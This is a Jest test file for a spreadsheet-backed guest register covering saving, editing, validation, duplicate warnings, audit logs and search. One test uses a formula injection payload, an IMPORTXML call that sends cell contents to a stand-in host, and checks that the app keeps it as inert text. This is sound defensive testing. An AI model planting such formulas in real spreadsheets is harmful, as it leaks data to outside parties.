/** Guests (narasumber) through the built bundle on the emulator. */

import { loadProduct, type Product } from '../tools/harness';
import { ok, refused, sheetRows } from './calls';

interface Guest {
  id: string;
  name: string;
  organization: string;
  type: string;
  kecamatan: string;
  phone: string;
  recordedBy: string;
}

const SITI = {
  name: 'Ibu Siti Aminah',
  organization: 'Koperasi Wanita Mekar Sari',
  type: 'koperasi',
  kecamatan: 'Cibinong',
  role: 'Ketua',
  phone: '0812-3456-7890',
  email: 'siti@example.id',
  tiktok: '@mekarsari',
  products: 'Simpan pinjam, keripik singkong',
};

function fresh(): Product {
  const product = loadProduct({ now: '2026-11-28T09:00:00+07:00' });
  product.run('setupRegister', []);
  return product;
}

describe('saveNarasumber', () => {
  it('adds a guest with a normalised phone kept as text, and audits it', () => {
    const product = fresh();
    expect(ok<{ id: string }>(product, 'saveNarasumber', SITI).id).toBe('NS-001');
    const [row] = sheetRows(product, 'Narasumber');
    expect(row).toMatchObject({
      ID: 'NS-001',
      Nama: 'Ibu Siti Aminah',
      Jenis: 'koperasi',
      Kecamatan: 'Cibinong',
      Telepon: '+6281234567890',
      'Dicatat oleh': 'pelaksana@example.go.id',
    });
    const [audit] = sheetRows(product, 'Log Audit');
    expect(audit).toMatchObject({ Tindakan: 'tambah narasumber', 'ID Data': 'NS-001', Sebelum: '' });
    expect(JSON.parse(String(audit.Sesudah))).toMatchObject({ phone: '+6281234567890' });
  });

  it('keeps what the public typed as text, formulas included', () => {
    const product = fresh();
    ok(product, 'saveNarasumber', { ...SITI, name: '=IMPORTXML("https://x.example/?"&A2)', products: '+62 produk' });
    const [row] = sheetRows(product, 'Narasumber');
    expect(row.Nama).toBe('=IMPORTXML("https://x.example/?"&A2)');
    expect(row['Produk/Layanan']).toBe('+62 produk');
  });

  it('edits a guest by id: fields replaced, first recorder kept, before/after audited', () => {
    const product = fresh();
    ok(product, 'saveNarasumber', SITI);
    ok(
      product,
      'saveNarasumber',
      { id: 'NS-001', ...SITI, kecamatan: 'gunung putri', phone: '+62 813 1111 2222', email: '' },
      'humas@example.go.id',
    );
    const rows = sheetRows(product, 'Narasumber');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      Kecamatan: 'Gunung Putri',
      Telepon: '+6281311112222',
      Email: '',
      'Dicatat oleh': 'pelaksana@example.go.id',
    });
    const audit = sheetRows(product, 'Log Audit')[1];
    expect(audit).toMatchObject({ Pengguna: 'humas@example.go.id', Tindakan: 'ubah narasumber', 'ID Data': 'NS-001' });
    expect(JSON.parse(String(audit.Sebelum)).kecamatan).toBe('Cibinong');
    expect(JSON.parse(String(audit.Sesudah)).kecamatan).toBe('Gunung Putri');
  });

  it('points out a likely duplicate (same organisation or phone) but saves it', () => {
    const product = fresh();
    ok(product, 'saveNarasumber', SITI);
    const sameOrg = ok<{ id: string }>(product, 'saveNarasumber', {
      ...SITI,
      name: 'Pak Budi',
      organization: 'koperasi wanita  MEKAR SARI',
      phone: '',
    });
    expect(sameOrg.id).toBe('NS-002');
    expect(sameOrg.warnings).toEqual([
      expect.stringContaining('NS-001 Ibu Siti Aminah (Koperasi Wanita Mekar Sari) memiliki organisasi yang sama'),
    ]);
    const samePhone = ok(product, 'saveNarasumber', { ...SITI, organization: 'UKM Lain', phone: '+62 812-3456-7890' });
    expect(samePhone.warnings).toEqual([expect.stringContaining('nomor telepon yang sama')]);
    const distinct = ok(product, 'saveNarasumber', { ...SITI, organization: 'UKM Baru', phone: '0857 1111 2222' });
    expect(distinct.warnings).toBeUndefined();
  });

  it('refuses bad input field by field and writes nothing', () => {
    const product = fresh();
    ok(product, 'saveNarasumber', SITI);
    expect(refused(product, 'saveNarasumber', { ...SITI, phone: '+1 415 555 0100' }).phone).toContain('nomor Indonesia');
    expect(refused(product, 'saveNarasumber', { ...SITI, phone: '0812 345' }).phone).toContain('terlalu pendek');
    expect(refused(product, 'saveNarasumber', { ...SITI, phone: '0812 3456 7890 1234' }).phone).toContain('terlalu panjang');
    expect(refused(product, 'saveNarasumber', { ...SITI, kecamatan: 'Bekasi Utara' }).kecamatan).toContain('40 kecamatan');
    expect(refused(product, 'saveNarasumber', { ...SITI, type: 'pt' }).type).toBe('Pilih salah satu jenis: Koperasi, UKM.');
    expect(refused(product, 'saveNarasumber', { ...SITI, type: undefined }).type).toBe('Jenis wajib diisi.');
    const missing = refused(product, 'saveNarasumber', { type: 'ukm', kecamatan: 'Ciawi' });
    expect(missing).toMatchObject({ name: 'Nama narasumber wajib diisi.', organization: 'Nama koperasi/UKM wajib diisi.' });
    expect(refused(product, 'saveNarasumber', { ...SITI, id: 'NS-099' }).id).toBe('Narasumber NS-099 tidak ditemukan.');
  });
});

describe('listNarasumber', () => {
  it('searches every word in name, organisation, district and phone, sorted by name', () => {
    const product = fresh();
    ok(product, 'saveNarasumber', SITI);
    ok(product, 'saveNarasumber', {
      ...SITI,
      name: 'Bapak Ahmad',
      organization: 'UKM Keripik Sari Rasa',
      type: 'ukm',
      kecamatan: 'Ciawi',
      phone: '0857 1111 2222',
    });
    const all = ok<{ narasumber: Guest[]; total: number }>(product, 'listNarasumber', {});
    expect(all.narasumber.map((g) => g.name)).toEqual(['Bapak Ahmad', 'Ibu Siti Aminah']);
    expect(all.total).toBe(2);
    const byWords = ok<{ narasumber: Guest[] }>(product, 'listNarasumber', { query: 'sari ciawi' });
    expect(byWords.narasumber.map((g) => g.id)).toEqual(['NS-002']);
    const byPhone = ok<{ narasumber: Guest[] }>(product, 'listNarasumber', { query: '08123456' });
    expect(byPhone.narasumber.map((g) => g.id)).toEqual(['NS-001']);
    expect(ok<{ total: number }>(product, 'listNarasumber', { query: 'bekasi' }).total).toBe(0);
  });
});
